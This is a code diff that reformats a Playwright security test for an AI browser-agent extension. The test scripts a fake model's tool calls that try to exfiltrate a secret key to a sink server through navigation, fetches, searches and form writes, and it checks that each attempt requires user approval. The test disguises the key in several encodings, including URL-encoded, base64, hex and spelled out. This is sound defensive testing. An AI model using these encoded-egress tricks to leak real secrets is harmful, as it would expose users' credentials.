@@ -40,7 +40,10 @@ export const ADDRESS_ENCODINGS: [string, (s: string) => string][] = [
   ['URL-encoded twice', (s) => encodeURIComponent(encodeURIComponent(s))],
   ['HTML references', (s) => encodeURIComponent(entities(s))],
   ['upper case', (s) => s.toUpperCase()],
-  ['percent-encoded character by character', (s) => [...s].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')],
+  [
+    'percent-encoded character by character',
+    (s) => [...s].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join(''),
+  ],
   ['spelled with dots', (s) => [...s].join('.')],
 ];
 
@@ -57,7 +60,14 @@ export const TEXT_ENCODINGS: [string, (s: string) => string][] = [
 ];
 
 /** Every form of the secret an attempt may carry: the sink must receive none of them. */
-export const SECRET_FORMS = [...new Set([SECRET, ...[...ADDRESS_ENCODINGS, ...TEXT_ENCODINGS].map(([, f]) => f(SECRET)), b64(SECRET), b64url(`k=${SECRET}`)])];
+export const SECRET_FORMS = [
+  ...new Set([
+    SECRET,
+    ...[...ADDRESS_ENCODINGS, ...TEXT_ENCODINGS].map(([, f]) => f(SECRET)),
+    b64(SECRET),
+    b64url(`k=${SECRET}`),
+  ]),
+];
 
 export interface EgressPathReport {
   path: string;
@@ -76,7 +86,9 @@ export interface EgressCorpusReport {
   writes: WriteCounts;
 }
 
-const toolCalls = (calls: { name: string; args: unknown }[]) => ({ toolCalls: calls.map((c) => ({ name: c.name, arguments: JSON.stringify(c.args) })) });
+const toolCalls = (calls: { name: string; args: unknown }[]) => ({
+  toolCalls: calls.map((c) => ({ name: c.name, arguments: JSON.stringify(c.args) })),
+});
 const one = (name: string, args: unknown = {}) => toolCalls([{ name, args }]);
 
 /** The ref of the element named `name` in the latest get_page_state result the model received. */
@@ -95,35 +107,59 @@ function refIn(req: RecordedRequest, name: string): string {
  * Decides `count` cards of `tool` from the `from`-th on, as they come: each must ask and name the flow; the
  * user denies it. Returns the violations seen.
  */
-async function denyFlagged(panel: Page, tool: string, from: number, count: number, label: (i: number) => string): Promise<string[]> {
+async function denyFlagged(
+  panel: Page,
+  tool: string,
+  from: number,
+  count: number,
+  label: (i: number) => string,
+): Promise<string[]> {
   const violations: string[] = [];
   for (let i = 0; i < count; i++) {
     const c = card(panel, tool).nth(from + i);
     await expect(c).toHaveAttribute('data-status', /awaiting-approval|done|error|denied/, { timeout: 20_000 });
     const status = await c.getAttribute('data-status');
     if (status !== 'awaiting-approval') {
-      violations.push(`${tool} ${label(i)}: ${status === 'done' ? 'ran without asking' : `ended ${status} before any card`}`);
+      violations.push(
+        `${tool} ${label(i)}: ${status === 'done' ? 'ran without asking' : `ended ${status} before any card`}`,
+      );
       continue;
     }
-    if ((await c.locator('.approval-flow').count()) === 0) violations.push(`${tool} ${label(i)}: asked without naming where the text came from`);
+    if ((await c.locator('.approval-flow').count()) === 0)
+      violations.push(`${tool} ${label(i)}: asked without naming where the text came from`);
     await c.getByRole('button', { name: 'Deny' }).click();
   }
   return violations;
 }
 
 /** Approves the next card of `tool` (with "Always allow" where `always`) and returns its index. */
-async function approveNext(panel: Page, tool: string, index: number, ledger: ReturnType<typeof createWriteLedger>, always: boolean): Promise<void> {
+async function approveNext(
+  panel: Page,
+  tool: string,
+  index: number,
+  ledger: ReturnType<typeof createWriteLedger>,
+  always: boolean,
+): Promise<void> {
   const c = card(panel, tool).nth(index);
   await expect(c).toHaveAttribute('data-status', 'awaiting-approval', { timeout: 20_000 });
   await approveCard(c, ledger, always ? 'Always allow on this site' : 'Approve');
 }
 
 /** Runs the corpus in one conversation: the secret is read in the first run, and each later run tries one path. */
-export async function runEgressCorpus(f: SecurityFixtures, sites: TwoOrigins, sink: EgressSink): Promise<EgressCorpusReport> {
+export async function runEgressCorpus(
+  f: SecurityFixtures,
+  sites: TwoOrigins,
+  sink: EgressSink,
+): Promise<EgressCorpusReport> {
   const { context, extensionId, llm, extPage } = f;
   const ledger = createWriteLedger();
   await watchPageWrites(context, ledger);
-  await addProvider(extPage, { kind: 'openai-compatible', name: 'Fake', baseUrl: llm.openaiBaseUrl, model: 'fake-model' });
+  await addProvider(extPage, {
+    kind: 'openai-compatible',
+    name: 'Fake',
+    baseUrl: llm.openaiBaseUrl,
+    model: 'fake-model',
+  });
   await extPage.goto(`chrome-extension://${extensionId}/options.html#web`);
   const section = extPage.getByRole('region', { name: 'Web search' });
   await section.getByRole('combobox', { name: 'Search with' }).selectOption('searxng');
@@ -136,7 +172,8 @@ export async function runEgressCorpus(f: SecurityFixtures, sites: TwoOrigins, si
   const panel = await openPanel(context, extensionId);
   const violations: string[] = [];
   const paths: EgressPathReport[] = [];
-  const addresses = (base: string, prefix: string) => ADDRESS_ENCODINGS.map(([, enc], i) => `${base}/${prefix}${i}?d=${enc(SECRET)}`);
+  const addresses = (base: string, prefix: string) =>
+    ADDRESS_ENCODINGS.map(([, enc], i) => `${base}/${prefix}${i}?d=${enc(SECRET)}`);
   const texts = TEXT_ENCODINGS.map(([, enc]) => enc(SECRET));
 
   /** One path: its attempts' violations, and whether the sink or the form saw the secret since it began. */
@@ -156,7 +193,10 @@ export async function runEgressCorpus(f: SecurityFixtures, sites: TwoOrigins, si
 
   // navigate and open_tab: the sink approved with "Always allow" for a plain visit, then every disguise of the
   // key, one run each (a denied origin stays denied for the rest of its run, which would hide the later ones).
-  for (const [tool, prefix] of [['navigate', 'n'], ['open_tab', 't']] as const) {
+  for (const [tool, prefix] of [
+    ['navigate', 'n'],
+    ['open_tab', 't'],
+  ] as const) {
     const urls = addresses(sink.https, prefix);
     await path(tool, urls.length, async () => {
       const from = await card(panel, tool).count();
@@ -184,7 +224,12 @@ export async function runEgressCorpus(f: SecurityFixtures, sites: TwoOrigins, si
     // Two steps: a run takes at most 10 tool calls in one step.
     const half = Math.ceil(fetches.length / 2);
     const step = (urls: string[]) => toolCalls(urls.map((url) => ({ name: 'fetch_url', args: { url } })));
-    llm.enqueue(one('fetch_url', { url: `${sink.https}/control-fetch` }), step(fetches.slice(0, half)), step(fetches.slice(half)), { text: ['Done.'] });
+    llm.enqueue(
+      one('fetch_url', { url: `${sink.https}/control-fetch` }),
+      step(fetches.slice(0, half)),
+      step(fetches.slice(half)),
+      { text: ['Done.'] },
+    );
     await sendChat(panel, 'Go on.');
     await approveNext(panel, 'fetch_url', from, ledger, false);
     const found = await denyFlagged(panel, 'fetch_url', from + 1, fetches.length, (i) => ADDRESS_ENCODINGS[i]![0]);
@@ -195,7 +240,11 @@ export async function runEgressCorpus(f: SecurityFixtures, sites: TwoOrigins, si
   // web_search: a plain query goes out unasked (the control), then queries carrying the key.
   await path('web_search', texts.length, async () => {
     const from = await card(panel, 'web_search').count();
-    llm.enqueue(one('web_search', { query: 'weather today' }), toolCalls(texts.map((query) => ({ name: 'web_search', args: { query } }))), { text: ['Done.'] });
+    llm.enqueue(
+      one('web_search', { query: 'weather today' }),
+      toolCalls(texts.map((query) => ({ name: 'web_search', args: { query } }))),
+      { text: ['Done.'] },
+    );
     await sendChat(panel, 'Go on.');
     await expect(card(panel, 'web_search').nth(from)).toHaveAttribute('data-status', 'done', { timeout: 20_000 });
     const found = await denyFlagged(panel, 'web_search', from + 1, texts.length, (i) => TEXT_ENCODINGS[i]![0]);
@@ -208,16 +257,42 @@ export async function runEgressCorpus(f: SecurityFixtures, sites: TwoOrigins, si
   await page.bringToFront();
   type Write = { name: string; args: (req: RecordedRequest) => unknown; label: string };
   // Two steps, each within the run's limit of tool calls per step.
-  const firstStep: Write[] = TEXT_ENCODINGS.map(([label], i) => ({ name: 'fill_form', label, args: (req: RecordedRequest) => ({ updates: { [refIn(req, 'Note')]: texts[i] } }) }));
-  const choices: [string, string][] = [['plain', SECRET], ['base64', b64(SECRET)], ['hex', hex(SECRET)], ['spelled out', [...SECRET].join(' ')]];
-  const secondStep: Write[] = [
-    ...choices.map(([label, option]) => ({ name: 'select', label, args: (req: RecordedRequest) => ({ ref: refIn(req, 'City'), option }) })),
-    { name: 'set_value', label: 'the one-time code', args: (req: RecordedRequest) => ({ ref: refIn(req, 'Amount'), value: CODE }) },
-    { name: 'set_value', label: 'the one-time code spelled out', args: (req: RecordedRequest) => ({ ref: refIn(req, 'Amount'), value: [...CODE].join(' ') }) },
+  const firstStep: Write[] = TEXT_ENCODINGS.map(([label], i) => ({
+    name: 'fill_form',
+    label,
+    args: (req: RecordedRequest) => ({ updates: { [refIn(req, 'Note')]: texts[i] } }),
+  }));
+  const choices: [string, string][] = [
+    ['plain', SECRET],
+    ['base64', b64(SECRET)],
+    ['hex', hex(SECRET)],
+    ['spelled out', [...SECRET].join(' ')],
   ];
-  const thirdStep: Write[] = TEXT_ENCODINGS.map(([label], i) => ({ name: 'type', label, args: (req: RecordedRequest) => ({ ref: refIn(req, 'Message'), text: texts[i] }) }));
+  const secondStep: Write[] = [
+    ...choices.map(([label, option]) => ({
+      name: 'select',
+      label,
+      args: (req: RecordedRequest) => ({ ref: refIn(req, 'City'), option }),
+    })),
+    {
+      name: 'set_value',
+      label: 'the one-time code',
+      args: (req: RecordedRequest) => ({ ref: refIn(req, 'Amount'), value: CODE }),
+    },
+    {
+      name: 'set_value',
+      label: 'the one-time code spelled out',
+      args: (req: RecordedRequest) => ({ ref: refIn(req, 'Amount'), value: [...CODE].join(' ') }),
+    },
+  ];
+  const thirdStep: Write[] = TEXT_ENCODINGS.map(([label], i) => ({
+    name: 'type',
+    label,
+    args: (req: RecordedRequest) => ({ ref: refIn(req, 'Message'), text: texts[i] }),
+  }));
   const writes = [...firstStep, ...secondStep, ...thirdStep];
-  const stepOf = (list: Write[]) => (req: RecordedRequest) => toolCalls(list.map((w) => ({ name: w.name, args: w.args(req) })));
+  const stepOf = (list: Write[]) => (req: RecordedRequest) =>
+    toolCalls(list.map((w) => ({ name: w.name, args: w.args(req) })));
   llm.enqueue(
     one('get_page_state'),
     (req) => one('fill_form', { updates: { [refIn(req, 'Note')]: 'hello' } }),
@@ -241,7 +316,10 @@ export async function runEgressCorpus(f: SecurityFixtures, sites: TwoOrigins, si
   const values = await page.evaluate(() => [...document.querySelectorAll('input')].map((i) => i.value));
   for (const name of ['fill_form', 'type', 'select', 'set_value']) {
     const found = writeFound[name] ?? [];
-    const landed = values.filter((v) => SECRET_FORMS.some((s) => v.toLowerCase().includes(s.toLowerCase())) || (name === 'set_value' && v === CODE));
+    const landed = values.filter(
+      (v) =>
+        SECRET_FORMS.some((s) => v.toLowerCase().includes(s.toLowerCase())) || (name === 'set_value' && v === CODE),
+    );
     if (landed.length) found.push(`${name}: the form on B holds ${landed.join(', ')}`);
     violations.push(...found);
     paths.push({ path: name, attempts: writes.filter((w) => w.name === name).length, gated: found.length === 0 });
@@ -251,7 +329,10 @@ export async function runEgressCorpus(f: SecurityFixtures, sites: TwoOrigins, si
     cases: paths.reduce((n, p) => n + p.attempts, 0),
     paths,
     violations,
-    controls: { tls: sink.requests.some((r) => r.tls && r.url.startsWith('/control')), plain: sink.requests.some((r) => !r.tls && r.url.startsWith('/search')) },
+    controls: {
+      tls: sink.requests.some((r) => r.tls && r.url.startsWith('/control')),
+      plain: sink.requests.some((r) => !r.tls && r.url.startsWith('/search')),
+    },
     writes: ledger.counts(),
   };
 }
